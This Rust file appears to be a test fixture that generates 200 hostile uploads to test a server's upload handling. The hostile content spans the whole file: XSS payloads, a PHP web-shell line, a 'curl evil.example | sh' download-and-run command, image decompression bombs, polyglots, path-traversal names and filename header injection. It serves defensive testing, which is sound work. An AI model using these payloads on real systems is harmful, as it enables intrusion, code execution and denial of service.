//! Files that were made to do harm when they are uploaded: polyglots, bombs, and pages and
//! drawings in every disguise.

use std::io::Cursor;

use image::{
    DynamicImage, ExtendedColorType, ImageBuffer, ImageEncoder as _, ImageFormat, Rgb, RgbImage,
    Rgba, codecs::png::PngEncoder,
};

const SCRIPT: &str = "<script>alert(document.domain)</script>";

/// Contents that a browser would run, if it took them for what they say.
const ACTIVE: [&str; 16] = [
    "<!DOCTYPE html><script>alert(1)</script>",
    "<html><body onload=alert(1)>",
    "\u{feff}<html><script>alert(1)</script>",
    "\n\n \t<HTML><SCRIPT>alert(1)</SCRIPT>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
    "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
    "<!-- GIF89a --><svg onload=alert(1)>",
    "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"#x\"?><x/>",
    "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"x\"><svg/>",
    "<script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<?php system($_GET['c']); ?>",
    "#!/bin/sh\ncurl evil.example | sh\n",
    "GIF89a/*<svg onload=alert(1)>*/=1;alert(1)",
    "alert(document.cookie)//<script>alert(1)</script>",
];

/// Names and content types that the sender gives to the files.
const LIES: [(&str, &str); 6] = [
    ("evil.html", "text/html"),
    ("me.png", "image/png"),
    ("../../../srv/web/index.html", "image/svg+xml"),
    ("a.jpg.svg%00.jpg", "application/xhtml+xml"),
    ("..\\..\\evil.js", "application/javascript"),
    ("x.pdf\"; filename=\"evil.html", "text/xml"),
];

/// A file, and what its sender says that it is.
#[derive(Debug, Clone)]
pub struct HostileFile {
    /// The attack that the file tries.
    pub trick: String,
    /// The name that the sender gives it.
    pub name: &'static str,
    /// The content type that the sender gives it.
    pub content_type: &'static str,
    /// The file's content.
    pub bytes: Vec<u8>,
}

fn png() -> Vec<u8> {
    let mut png = Cursor::new(Vec::new());
    RgbImage::from_pixel(64, 48, Rgb([5, 6, 7]))
        .write_to(&mut png, ImageFormat::Png)
        .expect("it is made");
    png.into_inner()
}

fn jpeg(width: u32, height: u32) -> Vec<u8> {
    let mut jpeg = Vec::new();
    let encoder = image::codecs::jpeg::JpegEncoder::new(&mut jpeg);
    RgbImage::from_pixel(width, height, Rgb([9, 99, 199]))
        .write_with_encoder(encoder)
        .expect("it is made");
    jpeg
}

fn gif() -> Vec<u8> {
    b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0\x3b"
        .to_vec()
}

fn webp() -> Vec<u8> {
    webp_of(8)
}

/// A square WebP.
fn webp_of(side: u32) -> Vec<u8> {
    let mut webp = Cursor::new(Vec::new());
    RgbImage::from_pixel(side, side, Rgb([1, 2, 3]))
        .write_to(&mut webp, ImageFormat::WebP)
        .expect("it is made");
    webp.into_inner()
}

/// A square PNG with 16 bits for each colour.
fn deep_png(side: u32) -> Vec<u8> {
    let mut png = Cursor::new(Vec::new());
    let image = ImageBuffer::from_pixel(side, side, Rgba([1_u16, 2, 3, 4]));
    DynamicImage::ImageRgba16(image).write_to(&mut png, ImageFormat::Png).expect("it is made");
    png.into_inner()
}

/// A JPEG whose frame says that it is progressive.
fn progressive_jpeg(width: u32, height: u32) -> Vec<u8> {
    let mut file = jpeg(width, height);
    let frame = file.windows(2).position(|pair| pair == [0xff, 0xc0]).expect("it is made");
    file[frame + 1] = 0xc2;
    file
}

/// A JPEG whose first scan says that it has one of the three colours.
fn jpeg_with_scans(width: u32, height: u32) -> Vec<u8> {
    let mut file = jpeg(width, height);
    let scan = file.windows(2).position(|pair| pair == [0xff, 0xda]).expect("it is made");
    // The scan's new head: its length, one colour instead of three, then the first colour and the
    // spectrum.
    let spectrum = file[scan + 11..scan + 14].to_vec();
    let first = file[scan + 5..scan + 7].to_vec();
    let head = [&[0, 8, 1], &*first, &*spectrum].concat();
    file.splice(scan + 2..scan + 14, head);
    file
}

fn pdf() -> Vec<u8> {
    format!("%PDF-1.7\n{SCRIPT}\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>")
        .into_bytes()
}

/// A PNG of one colour that is a thousand times as large once it is decoded.
fn png_bomb(width: u32, height: u32) -> Vec<u8> {
    let mut bomb = Vec::new();
    let pixels = vec![0; (width * height) as usize];
    PngEncoder::new(&mut bomb)
        .write_image(&pixels, width, height, ExtendedColorType::L8)
        .expect("it is made");
    bomb
}

/// A PNG whose header says another size.
fn png_of_size(width: u32, height: u32) -> Vec<u8> {
    let mut file = png();
    file[16..20].copy_from_slice(&width.to_be_bytes());
    file[20..24].copy_from_slice(&height.to_be_bytes());
    let crc = crc32(&file[12..29]);
    file[29..33].copy_from_slice(&crc.to_be_bytes());
    file
}

fn crc32(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| {
            if crc & 1 == 1 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 }
        })
    })
}

/// A GIF whose screen has this size.
fn gif_of_size(width: u16, height: u16, frames: usize) -> Vec<u8> {
    let still = gif();
    let mut file = still[..19].to_vec();
    file[6..8].copy_from_slice(&width.to_le_bytes());
    file[8..10].copy_from_slice(&height.to_le_bytes());
    for _ in 0..frames {
        file.extend(&still[19..still.len() - 1]);
    }
    file.push(0x3b);
    file
}

/// A WebP without a frame, whose header says this size.
fn webp_of_size(size: u32) -> Vec<u8> {
    let mut file = b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\x02\0\0\0".to_vec();
    for _ in 0..2 {
        file.extend(&(size - 1).to_le_bytes()[..3]);
    }
    file
}

/// Makes a file of a kind.
type Make = fn() -> Vec<u8>;
/// The name of a trick, and its file.
type Trick = (String, Vec<u8>);

/// Polyglots: a file of a kind with a script behind it, or cut off.
fn polyglots() -> Vec<Trick> {
    let kinds: [(&str, Make); 5] =
        [("png", png), ("jpeg", || jpeg(20, 10)), ("gif", gif), ("webp", webp), ("pdf", pdf)];
    let mut all = Vec::new();
    for (kind, make) in kinds {
        let whole = make();
        for (n, active) in ACTIVE.iter().enumerate() {
            let file = [&whole, active.as_bytes()].concat();
            all.push((format!("{kind} with {n} behind it"), file));
        }
        for part in [8, whole.len() / 2, whole.len() - 1] {
            all.push((format!("{kind} cut at {part}"), whole[..part].to_vec()));
        }
    }
    let script = [b"\xff\xd8\xff\xfe\0\x29", SCRIPT.as_bytes(), &jpeg(9, 9)[2..]].concat();
    all.push(("a comment of a jpeg".to_owned(), script));
    all
}

/// Pictures that are much larger than their files, or say so.
fn bombs() -> Vec<Trick> {
    let mut all = Vec::new();
    for side in [3_000, 8_000] {
        all.push((format!("a png bomb of {side}"), png_bomb(side, side / 2)));
    }
    for (width, height) in [
        (u32::MAX >> 1, u32::MAX >> 1),
        (60_000, 60_000),
        (12_000, 12_000),
        (1, 100_000_000),
        (4_000, 4_000),
        (0, 0),
    ] {
        all.push((format!("a png of {width} by {height}"), png_of_size(width, height)));
    }
    for (width, height, frames) in
        [(65_535, 65_535, 1), (65_535, 65_535, 50), (10_000, 10_000, 2), (3_000, 3_000, 2_000)]
    {
        let file = gif_of_size(width, height, frames);
        all.push((format!("a gif of {width} by {height}"), file));
    }
    for size in [1 << 24, 16_384, 9_000] {
        all.push((format!("a webp of {size}"), webp_of_size(size)));
    }
    // Pictures as large as may be decoded, or a little larger.
    for (trick, file) in [
        ("a jpeg of 16 megapixels", jpeg(4_600, 3_400)),
        ("a jpeg of 13 megapixels", jpeg(4_160, 3_120)),
        ("a jpeg of 12 megapixels", jpeg(4_000, 3_000)),
        ("a progressive jpeg of 16 megapixels", progressive_jpeg(4_600, 3_400)),
        ("a progressive jpeg of 5 megapixels", progressive_jpeg(2_560, 1_920)),
        ("a jpeg of 16 megapixels in scans", jpeg_with_scans(4_600, 3_400)),
        ("a jpeg of 5 megapixels in scans", jpeg_with_scans(2_560, 1_920)),
        ("a webp of 5 megapixels", webp_of(2_250)),
        ("a deep png of 2 megapixels", deep_png(1_500)),
        ("a deep png of 6 megapixels", deep_png(2_500)),
    ] {
        all.push((trick.to_owned(), file));
    }
    all
}

/// Pictures whose headers have one reader find less than another does.
fn disguises() -> Vec<Trick> {
    let canvas = b"RIFF\x2a\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\0\0\0\0\0\0";
    let frame = b"VP8 \x0c\0\0\0\x10\x02\0\x9d\x01\x2a\xff\x3f\xff\x3f\0\0";
    // A box of 1,280 bytes, more than is looked at to recognise a picture.
    let mut brands = b"\0\0\x05\0ftypavif".to_vec();
    brands.resize(1_280, b'a');
    let mut scans = jpeg_with_scans(4_160, 3_120);
    let scan = scans.windows(2).position(|pair| pair == [0xff, 0xda]).expect("it is made");
    scans.splice(scan..scan, *b"\xff\xd0\0\x07\xff\xda\0\x0c\x03");
    [
        ("a webp with a frame larger than its canvas", [&canvas[..], frame].concat()),
        ("an avif with a long head", [&brands, SCRIPT.as_bytes()].concat()),
        ("a jpeg with a hidden scan", scans),
    ]
    .map(|(trick, file)| (trick.to_owned(), file))
    .into()
}

/// Scripts in containers, and kinds without a decoder.
fn containers() -> Vec<Trick> {
    [
        ("a script in gzip", b"\x1f\x8b\x08\0\0\0\0\0\0\xff".as_slice()),
        (
            "a zip with a name that leads out",
            b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0../../index.html",
        ),
        ("an mp4 of a script", b"\0\0\0\x18ftypisom\0\0\0\0"),
        ("a tag of a script", b"ID3\x03\0\0\0\0\0\x40"),
        ("nothing but zeros", &[0; 10_000]),
        ("avif", b"\0\0\0\x1cftypavif\0\0\0\0"),
        ("heic", b"\0\0\0\x1cftypheic\0\0\0\0"),
    ]
    .map(|(trick, head)| (trick.to_owned(), [head, SCRIPT.as_bytes()].concat()))
    .into()
}

/// Returns 200 hostile files.
///
/// # Panics
/// If one of them cannot be made.
pub fn hostile_files() -> Vec<HostileFile> {
    let mut tricks = Vec::new();
    for (n, active) in ACTIVE.iter().enumerate() {
        for lie in 0..3 {
            tricks.push((format!("active {n} with lie {lie}"), active.as_bytes().to_vec()));
        }
    }
    tricks.extend(polyglots());
    tricks.extend(bombs());
    tricks.extend(disguises());
    tricks.extend(containers());
    // A letter before the tag: plain text, in which a browser that sniffs would find a page.
    for letter in ('a'..='z').cycle().take(200 - tricks.len()) {
        tricks.push((format!("text with {letter}"), format!("{letter}{SCRIPT}\n").into_bytes()));
    }
    let all: Vec<_> = tricks
        .into_iter()
        .zip(LIES.into_iter().cycle())
        .map(|((trick, bytes), (name, content_type))| HostileFile {
            trick,
            name,
            content_type,
            bytes,
        })
        .collect();
    assert_eq!(all.len(), 200);
    all
}
